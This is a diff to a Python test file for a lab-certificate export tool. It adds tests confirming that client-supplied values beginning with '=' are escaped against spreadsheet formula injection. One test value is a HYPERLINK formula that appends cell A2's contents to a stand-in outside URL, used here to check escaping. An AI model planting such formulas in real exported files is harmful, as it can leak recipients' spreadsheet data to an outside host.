@@ -97,8 +97,16 @@ def test_the_client_chooses_order_and_names() -> None:
     ]
 
 
+def by_two_methods() -> CertificateDocument:
+    """Gold by fire assay and by another method."""
+    document = certificate(1, 1)
+    (column,) = document.columns
+    return replace(document, columns=(column, replace(column, key="AR Au", method="AR")))
+
+
 CANNOT = [
     (replace(OURS, analytes=(Analyte("Xx"),)), with_cells(PLAIN), "Xx is not on the certificate"),
+    (replace(OURS, analytes=(Analyte("Au"),)), by_two_methods(), "Au stands on it by several methods"),
     (OURS, with_cells(replace(PLAIN, printed="5.43\u00a0%", number="5.43")), "is printed in %"),
     (replace(OURS, encoding="cp1252"), with_cells(replace(WORDS, printed="Ω")), "has no place in cp1252"),
 ]  # fmt: skip
@@ -108,6 +116,25 @@ CANNOT = [
 def test_what_cannot_be_laid_out_is_said(layout: DeliveryLayout, document: CertificateDocument, words: str) -> None:
     with pytest.raises(CannotDeliver, match=words):
         render_delivery(document, layout)
+
+
+@pytest.mark.parametrize(("harmless", "found"), [(True, "'=1+1"), (False, "=1+1")])
+def test_an_identification_is_no_formula_unless_the_client_wants_it_so(harmless: bool, found: str) -> None:
+    document = with_cells(PLAIN)
+    named = replace(document, rows=(replace(document.rows[0], client_identification="=1+1"),))
+    layout = replace(OURS, formulas_are_harmless=harmless)
+    assert found in read(render_delivery(named, layout), layout)[-1]
+
+
+@pytest.mark.parametrize(("harmless", "guard"), [(True, "'"), (False, "")])
+def test_what_a_client_calls_an_analyte_is_no_formula_either(harmless: bool, guard: str) -> None:
+    called, missing = '=HYPERLINK("http://elsewhere.example/"&A2)', "=1+1"
+    document = certificate(2, 1)
+    gone = replace(document, rows=(replace(document.rows[0], cells=document.rows[0].cells[1:]),))
+    analytes = tuple(Analyte(column.formula, called) for column in document.columns[:1])
+    layout = DeliveryLayout("x", analytes=analytes, missing=missing, formulas_are_harmless=harmless)
+    lines = read(render_delivery(gone, layout), layout)
+    assert (lines[0][-1], lines[-1][-1]) == (guard + called, guard + missing)
 
 
 def test_a_switched_unit_stands_beside_its_number_in_the_long_shape() -> None:
